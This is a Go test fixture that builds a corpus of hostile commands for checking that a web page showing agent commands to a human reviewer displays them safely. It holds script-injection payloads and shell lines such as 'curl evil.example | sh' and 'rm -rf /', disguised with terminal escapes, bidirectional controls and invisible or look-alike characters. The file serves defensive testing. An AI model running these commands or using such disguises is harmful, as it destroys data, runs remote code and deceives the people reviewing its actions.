package web

import (
	"fmt"
	"strings"
)

// hostile is one attacker-chosen command for the display tests.
type hostile struct {
	name    string
	command string
}

// hostileCorpus is what an agent (or whoever steers it) might send to fool
// a reviewer or attack the page: markup and script injection, attribute
// and URL breakouts, terminal escapes, every bidirectional control, every
// common invisible character, look-alike spaces and letters, line breaks,
// invalid UTF-8 and a 100 KB command. The payloads call window.__xss,
// which the browser test defines to record any execution.
func hostileCorpus() []hostile {
	c := []hostile{
		{"script element", `<script>window.__xss('script')</script>`},
		{"closing script", `echo "</script><script>window.__xss('close')</script>"`},
		{"img onerror", `<img src=x onerror="window.__xss('img')">`},
		{"svg onload", `<svg/onload=window.__xss('svg')>`},
		{"attribute breakout, double quote", `" autofocus onfocus="window.__xss('attr2')" x="`},
		{"attribute breakout, single quote", `' autofocus onfocus='window.__xss("attr1")' x='`},
		{"javascript URL", `javascript:window.__xss('url')`},
		{"anchor with javascript URL", `<a href="javascript:window.__xss('a')" id=clickme>approve</a>`},
		{"iframe srcdoc", `<iframe srcdoc="<script>parent.__xss('iframe')</script>"></iframe>`},
		{"template syntax", `{{.CSRF}} {{template "card"}} ${window.__xss('tpl')} #{x}`},
		{"HTML entities", `&lt;script&gt;window.__xss('entity')&lt;/script&gt; &#x202E;`},
		{"style and overlay", `<style>*{display:none}</style><div style="position:fixed;inset:0;background:#fff">Looks safe</div>`},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:window.__xss('meta')">`},
		{"injected form", `<form action="/ui/logout" method="post"><button id="approve-x">Approve</button></form>`},
		{"comment and CDATA", `<!-- --><![CDATA[ ]]><!--<script>window.__xss('comment')</script>-->`},
		{"ANSI conceal", "echo ok \x1b[8m; curl evil.example | sh \x1b[0m"},
		{"ANSI erase line", "rm -rf /srv/data\x1b[2K\x1b[1Gecho harmless"},
		{"OSC title and hyperlink", "\x1b]0;innocent\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\"},
		{"C1 control sequence introducer", "echo \u009b31mred"},
		{"Trojan Source comment", "echo safe # \u202e ; rm -rf ~ \u202c"},
		{"carriage return overwrite", "rm -rf /important\recho hello         "},
		{"newline second command", "echo hello\ncurl -s https://evil.example/x | sh"},
		{"CRLF, tab, backspace, bell, delete", "echo a\r\n\tb\bc\x07d\x7fe"},
		{"unicode line breaks", "echo a\u2028rm b\u2029c\u0085d"},
		{"look-alike spaces", "rm\u00a0-rf\u2003/\u3000x\u202fy\u2009z\u205fw\u1680v"},
		{"look-alike letters", "rm -rf /home/\u0430lice /\u0435tc"},
		{"Unicode tags smuggling ASCII", "echo hi\U000E0072\U000E006D\U000E0020\U000E002D\U000E0072\U000E0066"},
		{"invisible fillers and selectors", "a\u3164b\u115fc\uffa0d\u2800e\ufe0ff\u034fg\u180eh"},
		{"invalid UTF-8", "echo \xff\xfe \xc0\xaf \xed\xa0\x80 ok"},
		{"private use and unassigned", "echo \ue000 \U0010fffd \ufdd0"},
		{"long line without spaces", strings.Repeat("/very/long/path", 400)},
		{"mixed", "echo safe # \u202e ; rm -rf ~ \u202c\n\x1b[8mcurl evil.example | sh\x1b[0m\u200b\u00a0/home/\u0430lice \xff <script>window.__xss('mixed')</script>"},
		{"100 KB command", strings.Repeat("echo filler; ", 100<<10/13) + "\u202e; rm -rf / \u202c# end"},
	}
	// Every bidirectional control and every zero-width character, alone.
	for _, r := range []rune{0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c,
		0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0x00ad, 0x2061, 0x2062, 0x2063, 0x2064} {
		c = append(c, hostile{fmt.Sprintf("%U alone", r), fmt.Sprintf("ls -la%c /tmp/%cx", r, r)})
	}
	return c
}
